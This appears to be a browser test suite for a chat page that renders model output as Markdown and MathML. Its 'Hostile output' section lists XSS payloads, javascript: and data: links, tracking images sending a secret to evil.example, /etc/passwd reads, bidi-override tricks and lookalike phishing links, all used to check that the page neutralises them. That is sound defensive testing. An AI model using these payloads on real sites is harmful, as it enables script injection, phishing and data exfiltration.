"""What models write, as the page shows it: Markdown, mathematics, and everything that is meant to do harm."""

import itertools
import json

import pytest
from scripted import ScriptedServer, content, ending
from test_page import IDLE, ask, origins


@pytest.fixture(scope="module")
def modules(server, browser):
    """Runs expressions in which `markdown`, `inline`, `math`, … are the page's modules."""
    page = browser.page()
    page.open(server.url)
    page.run("""(async () => {
        const base = document.querySelector('script[type=module]').src.replace('chat.js', '');
        for (const name of ['api', 'conversation', 'highlight', 'inline', 'markdown', 'math', 'prometheus', 'render']) {
            window[name] = await import(`${base}${name}.js`);
        }
        const { MarkdownView } = render;
        window.shown = (text, isOpen = false) => {
            const view = new MarkdownView();
            view.update(text, isOpen);
            return view.element;
        };
        // Elements in brackets, without attributes: enough to tell structures apart.
        window.outline = (node) => node.nodeType === 3 ? node.data
            : `<${node.localName}${[...node.childNodes].map((x, i) => (i ? '' : '>') + outline(x)).join('')}>`;
        window.html = (text) => [...shown(text).children].map((x) => x.outerHTML).join('')
            .replace(/ (?:dir|class|tabindex|role|aria-label|rel|target|title|scope)="[^"]*"/g, '');
        window.tex = (source, isDisplay = false) => math.renderMath(source, isDisplay).innerHTML
            .replace(/ (?:xmlns|stretchy|form|fence|symmetric|lspace|rspace|class|separator|movablelimits)="[^"]*"/g, '');
    })()""")
    yield lambda script: page.run(script)
    assert page.complaints == []
    page.close()


# Markdown


@pytest.mark.parametrize(
    "source, expected",
    [
        ("plain", "<p>plain</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("# One #\n\n### Three", "<h3>One</h3><h5>Three</h5>"),
        ("Title\n===\ntext", "<h3>Title</h3><p>text</p>"),
        ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
        ("**bold** and *slanted*", "<p><strong>bold</strong> and <em>slanted</em></p>"),
        ("***both***", "<p><em><strong>both</strong></em></p>"),
        ("**bold *inner* bold**", "<p><strong>bold <em>inner</em> bold</strong></p>"),
        ("2 * 3 * 4 and snake_case_name", "<p>2 * 3 * 4 and snake_case_name</p>"),
        ("**“引号”**中文", "<p><strong>“引号”</strong>中文</p>"),
        ("~~gone~~ ~not~", "<p><s>gone</s> ~not~</p>"),
        ("`a*b*` and ``c`d``", "<p><code>a*b*</code> and <code>c`d</code></p>"),
        (r"\*literal\*", "<p>*literal*</p>"),
        ("&lt;b&gt; &amp; &#65;", "<p>&lt;b&gt; &amp; A</p>"),
        ("<b>no</b><br>yes", "<p>&lt;b&gt;no&lt;/b&gt;<br>yes</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
        ("3. c\n4. d", '<ol start="3"><li>c</li><li>d</li></ol>'),
        ("1. a\n  - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
        ("- a\n\n  more\n- b", "<ul><li><p>a</p><p>more</p></li><li><p>b</p></li></ul>"),
        ("> a\n> b\n\nc", "<blockquote><p>a<br>b</p></blockquote><p>c</p>"),
        ("[text](https://a.example/x \"t\")", '<p><a href="https://a.example/x">text</a><span> (a.example)</span></p>'),
        ("<https://a.example>", '<p><a href="https://a.example/">https://a.example</a></p>'),
        ("see https://a.example/b.", '<p>see <a href="https://a.example/b">https://a.example/b</a>.</p>'),
        ("(https://a.example/b_(c))", '<p>(<a href="https://a.example/b_(c)">https://a.example/b_(c)</a>)</p>'),
    ],
)  # fmt: skip
def test_markdown(modules, source, expected):
    assert modules(f"html({json.dumps(source)})") == expected


def test_a_table_keeps_bars_in_code(modules):
    rows = modules(r"""[...shown('| a | b |\n|---|:-:|\n| `x|y` | \\| |\n| only |').querySelectorAll('tr')]
        .map((row) => [...row.cells].map((cell) => cell.textContent))""")
    assert rows == [["a", "b"], ["x|y", "|"], ["only", ""]]


def test_code_keeps_its_text(modules):
    source = "```python\ndef f(x):\n    return \"<b>\" + x  # 'note'\n\n\n'''doc\n```\nafter"
    assert modules(f"shown({json.dumps(source)}).querySelector('code').textContent") == source[10:-10]
    kinds = modules(f"[...shown({json.dumps(source)}).querySelectorAll('code span[class^=t-]')].map((x) => x.className)")
    assert kinds[:3] == ["t-keyword", "t-function", "t-keyword"] and "t-comment" in kinds
    assert modules("shown('```\\nopen end').querySelector('code').textContent") == "open end"


@pytest.mark.parametrize("language", ["python", "js", "swift", "c", "java", "go", "rust", "ruby", "bash", "sql", "lua", "hs",
                                      "php", "r", "json", "yaml", "toml", "css", "makefile", "latex", "html", "diff"])  # fmt: skip
def test_colours_change_no_character(modules, language):
    code = "/* a */ # b\n\"s\\\"t\" 'u' `v` -- <!-- x --> @y $z \\w \u202e 0x1F 1.5e3 ünï 😀 {- [[ ]] -}\nif (x) { return Foo(1) }\n"
    assert modules(f"highlight.highlight({json.dumps(code)}, highlight.languageNamed('{language}')).pieces.map((x) => x[1]).join('')") == code


def test_any_growth_ends_as_the_whole(modules):
    """A text that comes in pieces looks in the end as if it had come at once."""
    assert modules(r"""(async () => {
        const frames = (view) => new Promise((resolve) => {
            (function look() { view.textContent.includes('tail') ? resolve(view.innerHTML) : requestAnimationFrame(look); })();
        });
        const text = "# A\n\npara *em*\nmore\n\n- one\n- two\n\n  - deep\n\n\tx\n\n1. a\n\n   b\n2. c\n\n```js\nlet x = `a\nb`;\n// c\n```\n"
            + "> q\n> r\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\\[ x^2\n+ 1 \\]\n\n$$y$$\n\nTitle\n---\n\n`code\nspan` \\boxed{1}\n\ntail";
        const whole = await frames(shown(text));
        for (const step of [1, 2, 3, 7, 31]) {
            const view = new render.MarkdownView();
            for (let end = step; end < text.length; end += step) view.update(text.slice(0, end), true);
            view.update(text, false);
            const grown = await frames(view.element);
            if (grown !== whole) return [step, grown, whole];
        }
        return true;
    })()""") is True


def test_finished_blocks_are_left_alone(modules):
    assert modules(r"""(() => {
        const view = new render.MarkdownView();
        view.update('first\n\nsecond\n\n```\ncode\n', true);
        const [first, second, code] = view.element.children;
        view.update('first\n\nsecond\n\n```\ncode\nmore\n```\n\nthird', true);
        view.update('first\n\nsecond\n\n```\ncode\nmore\n```\n\nthird grows', true);
        return first === view.element.children[0] && second === view.element.children[1] && code === view.element.children[2]
            && view.element.children[3].textContent === 'third grows';
    })()""")


# Mathematics


@pytest.mark.parametrize(
    "source, expected",
    [
        ("x", "<mi>x</mi>"),
        ("12.5x", "<mn>12.5</mn><mi>x</mi>"),
        ("x^2", "<msup><mi>x</mi><mn>2</mn></msup>"),
        ("a_{ij}", "<msub><mi>a</mi><mrow><mi>i</mi><mi>j</mi></mrow></msub>"),
        ("x_1^2", "<msubsup><mi>x</mi><mn>1</mn><mn>2</mn></msubsup>"),
        ("f'", "<msup><mi>f</mi><mo>′</mo></msup>"),
        (r"\frac12", "<mfrac><mn>1</mn><mn>2</mn></mfrac>"),
        (r"\frac{a+b}{c}", "<mfrac><mrow><mi>a</mi><mo>+</mo><mi>b</mi></mrow><mi>c</mi></mfrac>"),
        (r"\sqrt{x}", "<msqrt><mi>x</mi></msqrt>"),
        (r"\sqrt[3]{x}", "<mroot><mi>x</mi><mn>3</mn></mroot>"),
        (r"\alpha\le\Omega", '<mi>α</mi><mo>≤</mo><mi mathvariant="normal">Ω</mi>'),
        (r"\mathbb{R}^n", '<msup><mi mathvariant="normal">ℝ</mi><mi>n</mi></msup>'),
        (r"\mathrm{area}", '<mi mathvariant="normal">area</mi>'),
        (r"\text{if } x", "<mtext>if\u00a0</mtext><mi>x</mi>".replace("\u00a0", "&nbsp;")),
        (r"\hat{x}", '<mover accent="true"><mi>x</mi><mo>ˆ</mo></mover>'),
        (r"\left( x \right]", "<mrow><mo>(</mo><mi>x</mi><mo>]</mo></mrow>"),
        (r"\boxed{42}", "<mrow><mn>42</mn></mrow>"),
        (r"\binom{n}{k}", '<mrow><mo>(</mo><mfrac linethickness="0"><mi>n</mi><mi>k</mi></mfrac><mo>)</mo></mrow>'),
        ("{n \\choose k}", '<mrow><mo>(</mo><mfrac linethickness="0"><mi>n</mi><mi>k</mi></mfrac><mo>)</mo></mrow>'),
        (r"\begin{pmatrix}a&b\\c&d\end{pmatrix}",
         "<mrow><mo>(</mo><mtable><mtr><mtd><mi>a</mi></mtd><mtd><mi>b</mi></mtd></mtr>"
         "<mtr><mtd><mi>c</mi></mtd><mtd><mi>d</mi></mtd></mtr></mtable><mo>)</mo></mrow>"),
        (r"a \ne b", "<mi>a</mi><mo>≠</mo><mi>b</mi>"),
        (r"\not= x", "<mo>≠</mo><mi>x</mi>"),
        (r"\frobnicate x", "<mtext>\\frobnicate</mtext><mi>x</mi>"),
        (r"\constructor \__proto__", None),
        ("x^", "<msup><mi>x</mi><mrow></mrow></msup>"),
        (r"\frac{a", "<mfrac><mi>a</mi><mrow></mrow></mfrac>"),
        ("}", "<mtext>}</mtext>"),
        (r"\right) \end{x} & \\", None),
    ],
)  # fmt: skip
def test_mathematics(modules, source, expected):
    found = modules(f"tex({json.dumps(source)})")
    assert expected is None or found == expected


def test_limits_stand_above_and_below_in_displays(modules):
    assert modules(r"tex('\\sum_{i=1}^n i', true)").startswith("<munderover><mo>∑</mo>")
    assert modules(r"tex('\\sum_{i=1}^n i', false)").startswith("<msubsup><mo>∑</mo>")
    assert modules(r"tex('\\int_0^1 x', true)").startswith("<msubsup><mo>∫</mo>")
    assert modules(r"tex('\\lim_{x \\to 0} f', true)").startswith("<munder>")


@pytest.mark.parametrize(
    "source, formulas",
    [
        (r"inline \(a\) and \[b\]", 2), ("$$c$$", 1), ("costs $5 and $6", 0), ("let $x$ be", 1), (r"so \boxed{7}", 1),
        ("\\begin{align}a&=b\\end{align}", 1), (r"`\(code\)`", 0), (r"\(never ends", 0), ("\\[\nx\n\\]\n\ntext", 1),
        (r"\\(no\\)", 0),
    ],
)  # fmt: skip
def test_where_mathematics_begins(modules, source, formulas):
    assert modules(f"shown({json.dumps(source)}).querySelectorAll('math').length") == formulas


def test_formulas_have_size(modules):
    """What the browser lays out: a root is wider than its radicand, a fraction higher than its numerator."""
    assert modules(r"""(() => {
        const view = shown('\\[ \\frac{a}{b} = \\sqrt{\\frac{c}{d}} + \\begin{cases} 1 & x \\\\ 0 & y \\end{cases} \\]');
        document.body.append(view);
        const size = (name) => view.querySelector(name).getBoundingClientRect();
        const result = size('mfrac').height > 1.5 * size('mfrac > mi').height && size('msqrt').width > size('msqrt > mfrac').width
            && Math.abs(size('mtable').height - size('mtable').height) < 1 && size('mtr').height > 10;
        view.remove();
        return result;
    })()""")


# Small parts


def test_events_are_read_however_they_are_cut(modules):
    assert modules(r"""(async () => {
        const text = ': keep-alive\n\ndata: {"a":1}\r\n\r\ndata: two\ndata: lines\n\nevent: x\ndata:tight\n\ndata: [DONE]\n\n';
        const bytes = new TextEncoder().encode(text.replace('two', 'zw\u00f6lf \u{1F600}'));
        for (const size of [1, 2, 3, 5, 1000]) {
            const stream = new ReadableStream({ start(controller) {
                for (let at = 0; at < bytes.length; at += size) controller.enqueue(bytes.slice(at, at + size));
                controller.close();
            } });
            const found = [];
            for await (const data of api.events(stream)) found.push(data);
            const expected = ['{"a":1}', 'zw\u00f6lf \u{1F600}\nlines', 'tight', '[DONE]'];
            if (JSON.stringify(found) !== JSON.stringify(expected)) return [size, found];
        }
        return true;
    })()""") is True


def test_metrics_are_read(modules):
    text = (
        '# TYPE a counter\na{m="x\\"y",n="1"} 3\na{n="2"} 4\nh_bucket{le="1"} 2\nh_bucket{le="2"} 6\nh_bucket{le="+Inf"} 8\n'
    )
    modules(f"window.read = prometheus.samples({json.dumps(text)})")
    assert modules("prometheus.total(read, 'a')") == 7
    assert modules("prometheus.total(read, 'a', { n: '2' })") == 4
    assert modules("prometheus.total(read, 'b')") is None
    assert modules("read[0].labels.m") == 'x"y'
    assert modules("prometheus.histogram(read, 'h').map((x) => x.count)") == [2, 4, 2]
    assert modules("prometheus.quantile(prometheus.histogram(read, 'h'), 0.5)") == 1.5
    assert modules("prometheus.quantile([{ bound: 1, count: 0 }], 0.5)") is None


def test_a_conversation_is_a_tree(modules):
    assert modules("""(() => {
        const { addMessage, newConversation, path, select, siblings, requestMessages } = conversation;
        const tree = newConversation();
        const question = addMessage(tree, null, { role: 'user', text: 'q' });
        const first = addMessage(tree, question.id, { role: 'assistant', text: 'a', reasoning: 'r' });
        const second = addMessage(tree, question.id, { role: 'assistant', text: 'b' });
        const more = addMessage(tree, second.id, { role: 'user', text: 'c' });
        const names = () => path(tree).map((message) => message.text).join('');
        const before = names();
        select(tree, first);
        const between = names();
        select(tree, second);
        return [before, between, names(), siblings(tree, first).length, requestMessages(tree, more.id, 's').map((x) => x.content)];
    })()""") == ["qbc", "qa", "qbc", 2, ["s", "q", "b", "c"]]


# Hostile output

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'><svg onload='window.hacked = 1'></svg><iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Go</button></form><object data=https://evil.example></object><base href=https://evil.example>",
    "[click](javascript:window.hacked=1) [click](JaVaScRiPt:window.hacked=1) [click](\tjavascript:window.hacked=1) [x](java\nscript:alert(1))",
    "[a](data:text/html,<script>window.hacked=1</script>) [b](vbscript:x) [c](file:///etc/passwd) [d](//evil.example) [e](blob:x)",
    "<javascript:window.hacked=1> <data:text/html,x> [x](https://good.example\" onclick=\"window.hacked=1) <https://a.example/\"onmouseover=hacked=1>",
    "![pixel](https://evil.example/pixel.png) ![](http://evil.example/p?secret=1) ![x](//evil.example/y.png) [![i](https://evil.example/i.png)](https://evil.example)",
    "```html\n<script>window.hacked = 1</script>\n<img src=https://evil.example/z.png>",
    "```\"><script>window.hacked=1</script>\ncode",
    "\\(\\text{<img src=x onerror=window.hacked=1>} \\href{javascript:window.hacked=1}{x} \\url{https://evil.example} \\style{color:red}{x} \\class{a}{b}\\)",
    "\\[\\unicode{x} \\require{html} \\html{<script>window.hacked=1</script>} \\includegraphics{https://evil.example/a.png} \\input{/etc/passwd}\\]",
    "\u202egnp.exe\u202c and `\u202eif (admin)\u2066 // \u2069`\n\n```c\n/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin */\n```",
    "[https://bank.example](https://evil.example/login) https://bank.example@evil.example/x",
    "| <script>hacked=1</script> | <img src=x onerror=hacked=1> |\n|---|---|\n| [x](javascript:hacked=1) | <b onclick=hacked=1>y</b> |",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 300 + " zalgo",
    "W" * 20000,
    "\u200b\u200d\ufeff\u0000\u0007\u001b[31mred\u001b[0m \ud83d" .encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=hacked=1&#62;",
    "</div></div></main><h1>Outside</h1><div class=sidebar id=message>",
    "constructor __proto__ toString \\(\\constructor \\__proto__ \\toString \\hasOwnProperty\\)\n\n```constructor\nx\n```\n\n```__proto__\ny\n```",
]  # fmt: skip


def test_hostile_output_stays_inert(server, browser):
    page = browser.page()
    between = ScriptedServer(server.url)
    page.open(between.url)
    page.run("window.violations = []; addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective))")
    for text in HOSTILE:
        between.say(text, thought=text, piece=7)
        page.run("document.querySelector('.new-chat').click()")
        page.wait("document.querySelector('.welcome')")
        page.focus("#message")
        page.type("Show me")
        page.press("Enter")
        page.wait(f"document.querySelector('.thought-button') && {IDLE}")
        page.run("document.querySelector('.thought-button').click()")
        # Everything in it is of a kind that the page makes itself, without handlers and styles.
        assert page.run("""[...document.querySelectorAll('.markdown *')].filter((x) => ![
            'p', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'input', 'blockquote', 'hr', 'br', 'strong', 'em', 's', 'code', 'pre', 'a',
            'span', 'div', 'figure', 'figcaption', 'button', 'svg', 'path', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
        ].includes(x.localName) && x.namespaceURI !== 'http://www.w3.org/1998/Math/MathML').map((x) => x.outerHTML)""") == [], text
        assert page.run("""[...document.querySelectorAll('.markdown *')].flatMap((x) => [...x.attributes])
            .filter(({ name }) => /^on|^style$|^src|^srcdoc$|^action$|^formaction$|^xlink/.test(name)).map(({ name }) => name)""") == [], text
        assert page.run("""[...document.querySelectorAll('.markdown a')].filter((x) => !/^(https?|mailto):/.test(x.href)
            || x.rel !== 'noopener noreferrer' || x.target !== '_blank').map((x) => x.outerHTML)""") == [], text
        # What stands around it stays where it was.
        assert page.run("""(() => {
            const place = (selector) => document.querySelector(selector).getBoundingClientRect();
            return document.documentElement.scrollWidth <= innerWidth && place('.sidebar').left === 0
                && place('.composer').bottom <= innerHeight && place('main').right === innerWidth
                && [...document.querySelectorAll('.markdown')].every((x) => x.scrollWidth <= x.clientWidth + 1);
        })()"""), text
    assert page.run("window.hacked") is None
    assert page.run("violations") == []
    assert origins(page) == {between.url}
    assert page.complaints == []
    between.close()
    page.close()


def test_links_say_where_they_lead(modules):
    link = "shown('[https://bank.example](https://evil.example/login)')"
    assert modules(f"{link}.textContent") == "https://bank.example (evil.example)"
    assert modules(f"{link}.querySelector('a').title") == "https://evil.example/login"
    assert modules("shown('![cat](https://evil.example/cat.png)').textContent") == "Image: cat (evil.example)"
    assert modules("shown('[x](javascript:alert(1))').textContent") == "x (javascript:alert(1))"
    assert modules("shown('[x](javascript:alert(1))').querySelector('a')") is None


def test_characters_that_turn_text_are_shown_as_what_they_are(modules):
    assert modules(r"shown('a\u202eb `c\u2066d`').textContent") == "aU+202Eb cU+2066d"
    code = modules(r"shown('```\nx\u202ey\n```').querySelector('code').textContent")
    assert code == "xU+202Ey"


LARGE = {
    "paragraphs": "A sentence of some length, with `code` and **bold** text in it.\n\n" * 15000,
    "one line": "word " * 200000,
    "code": "```python\n" + "print('line', 1 + 2)  # comment\n" * 30000,
    "list": "- item with *emphasis*\n" * 40000,
    "table": "| a | b |\n|---|---|\n" + "| c | d |\n" * 90000,
    "headings": "# " + " " * 500000 + "x\n" + "# heading\n" * 50000,
    "formulas": "\\(" + "{" * 300000 + "\n\n" + "\\(\\frac{1}{\\sqrt{x_1^2}}\\) " * 20000,
    "marks": "\n\n".join(
        (mark * (200000 // len(mark))) for mark in ("*a **b ", "[", "](", "> ", "$a ", "` `` ``` ", "x", "~~a_b_", "&amp;<")
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", LARGE)
def test_a_megabyte_is_shown_as_it_comes(scripted_large, kind):
    """Every part of it is made about once, however often the text grows, so that the page stays at hand."""
    page, between = scripted_large
    text = LARGE[kind]
    pieces = [text[at : at + 20000] for at in range(0, len(text), 20000)]
    between.script = lambda body: [*itertools.chain(*([content(piece), 0.02] for piece in pieces)), ending()]
    page.run("document.querySelector('.new-chat').click()")
    page.wait("document.querySelector('.welcome')")
    page.run("""
        window.made = 0;
        window.observer?.disconnect();
        window.observer = new MutationObserver((records) => {
            for (const { target, addedNodes } of records) {
                if (!target.closest('.answer')) continue;
                for (const node of addedNodes) made += 1 + (node.querySelectorAll?.('*').length ?? 0);
            }
        });
        observer.observe(document.querySelector('.messages'), { subtree: true, childList: true });
    """)
    ask(page, "A lot, please")
    # The last of it may still be laid out, in slices of a frame each.
    length = len("".join(text.split())) // 3
    page.wait(f"document.querySelector('.answer').textContent.length > {length}", seconds=60)
    assert page.run("made") < 5 * page.run("document.querySelectorAll('.answer *').length") + 1000


@pytest.fixture(scope="module")
def scripted_large(server, browser):
    page = browser.page()
    between = ScriptedServer(server.url)
    page.open(between.url)
    yield page, between
    between.close()
    page.close()
